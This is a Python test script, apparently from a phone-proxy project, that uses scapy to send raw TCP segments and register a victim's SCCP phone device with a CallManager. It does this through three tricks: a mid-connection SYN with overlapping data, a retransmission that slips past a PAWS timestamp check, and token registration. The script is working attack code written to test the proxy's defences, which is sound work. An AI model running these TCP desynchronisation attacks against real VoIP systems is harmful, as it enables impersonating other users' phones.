#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
# Copyright (C) 2026 The phoneproxy authors.
#
# An activated phone attacking the SID check with raw TCP (scapy): it
# opens an SCCP connection to the proxy and tries to make the
# CallManager's TCP stack deliver a registration naming VICTIM's device.
# Usage: sccp_tcp_attack.py PROXY OWN VICTIM MODE:SPORT...
# runs each attack in turn on a new connection from SPORT (one process:
# importing scapy is slow on an emulated machine):
#   resyn:  a RegisterReq of OWN, then a SYN in the middle of the
#           connection 12 bytes before the end of what was sent, then a
#           "KeepAlive" whose body is a RegisterReq of VICTIM, sent at the
#           SYN's sequence number + 1 (the CallManager trims the 12 bytes
#           it already has and delivers the RegisterReq);
#   retrans: a RegisterReq of OWN that the CallManager discards (PAWS: an
#           old timestamp), then the same bytes with VICTIM's name;
#           finally OWN's again, which must pass;
#   token:  a RegisterTokenReq of VICTIM (token-own: of OWN).
# The caller drops the RSTs the phone's own stack would send.
# Prints what it sent, one line per step, and "done MODE" after each;
# exits 1 if no SYN-ACK came.
import struct
import sys
import time

# Only what is used: all of scapy takes long to import on an emulated CPU.
from scapy.config import conf
from scapy.layers.inet import IP, TCP
from scapy.packet import Raw
from scapy.sendrecv import send, sr1

conf.verb = 0
proxy, own, victim = sys.argv[1:4]
DPORT = 2000
ISN = 1000000
TS = 100000


def pdu(msg_id, body):
    return struct.pack("<III", 4 + len(body), 0, msg_id) + body


def register(name, msg_id=0x0001):
    # deviceName, userId, instance, stationIpAddr, deviceType(, maxStreams)
    body = name.encode().ljust(16, b"\0") + struct.pack("<IIII", 0, 1, 0, 7)
    if msg_id == 0x0001:
        body += struct.pack("<I", 5)
    return pdu(msg_id, body)


ip = IP(dst=proxy)


def attack(mode, sport):
    ts_opt = mode == "retrans"
    state = {"ack": 0, "ecr": 0}

    def opts(tsval):
        return [("Timestamp", (tsval, state["ecr"]))] if ts_opt else []

    def seg(seq, data=b"", flags="PA", tsval=TS):
        p = ip / TCP(sport=sport, dport=DPORT, flags=flags, seq=seq,
                     ack=state["ack"], window=65535, options=opts(tsval))
        if data:
            p = p / Raw(data)
        send(p)
        time.sleep(0.3)

    syn = ip / TCP(sport=sport, dport=DPORT, flags="S", seq=ISN, window=65535,
                   options=[("MSS", 1400)] + opts(TS))
    sa = None
    for _ in range(3):
        sa = sr1(syn, timeout=3)
        if sa is not None and sa.haslayer(TCP) and (sa[TCP].flags & 0x12) == 0x12:
            break
        sa = None
    if sa is None:
        print("no SYN-ACK")
        sys.exit(1)
    state["ack"] = sa[TCP].seq + 1
    for o in sa[TCP].options:
        if o[0] == "Timestamp":
            state["ecr"] = o[1][0]
    seg(ISN + 1, flags="A")
    print("connected", flush=True)

    if mode == "resyn":
        mine = register(own)
        seg(ISN + 1, mine)
        print("register own", flush=True)
        # The SYN: the tracker would restart 12 bytes before the end.
        resyn = ISN + len(mine) - 12
        send(ip / TCP(sport=sport, dport=DPORT, flags="S", seq=resyn, window=65535))
        time.sleep(0.3)
        theirs = register(victim)
        wrap = struct.pack("<III", 4 + len(theirs), 0, 0x0000)
        seg(resyn + 1, wrap + theirs)
        print("register victim after the SYN", flush=True)
    elif mode == "retrans":
        mine = register(own)
        seg(ISN + 1, mine, tsval=50)		# PAWS: the CallManager drops it
        print("register own, old timestamp", flush=True)
        seg(ISN + 1, register(victim), tsval=TS + 1)
        print("register victim, same bytes but the name", flush=True)
        seg(ISN + 1, mine, tsval=TS + 2)
        print("register own again", flush=True)
    elif mode in ("token", "token-own"):
        seg(ISN + 1, register(victim if mode == "token" else own, 0x0029))
        print("register token", flush=True)
    time.sleep(0.5)


for arg in sys.argv[4:]:
    m, p = arg.split(":")
    attack(m, int(p))
    print("done", m, flush=True)
